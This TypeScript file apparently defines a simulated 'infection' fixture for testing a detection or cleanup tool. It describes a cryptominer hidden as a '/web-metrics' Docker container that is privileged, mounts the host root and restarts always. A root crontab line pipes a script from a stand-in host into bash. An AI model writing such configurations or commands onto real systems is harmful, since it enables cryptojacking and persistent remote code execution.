import { type Infection, wallet } from '../host-part.ts'

const id = '0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9'

/** A container that always comes back, and the job that makes it again. */
export const containers: Infection = {
  family: 'containers',
  known: false,
  title: 'A miner in a container that always comes back',
  story: ['Docker starts the container at each boot.', 'A job fetches a script that makes it again.'],
  items: [
    {
      kind: 'file',
      path: `/var/lib/docker/containers/${id}/config.v2.json`,
      content: {
        text: `${JSON.stringify({ ID: id, Name: '/web-metrics', Created: '2026-03-01T08:00:00Z', Path: '/app/metrics', Args: ['-o', 'stratum+ssl://198.51.100.200:443', '-u', wallet, '-p', 'x'], Config: { Image: 'alpine:3', Cmd: ['-o', 'stratum+ssl://198.51.100.200:443', '-u', wallet, '-p', 'x'], Entrypoint: ['/app/metrics'] }, State: { Running: false } })}\n`,
      },
      mode: 0o600,
      after: 'advised',
    },
    {
      kind: 'file',
      path: `/var/lib/docker/containers/${id}/hostconfig.json`,
      content: {
        text: '{"RestartPolicy":{"Name":"always","MaximumRetryCount":0},"Privileged":true,"NetworkMode":"host","Binds":["/:/host"]}\n',
      },
      after: 'advised',
    },
    {
      kind: 'line',
      path: '/etc/crontab',
      text: '*/15 * * * * root wget -qO- http://198.51.100.200/c.sh | bash',
    },
  ],
}
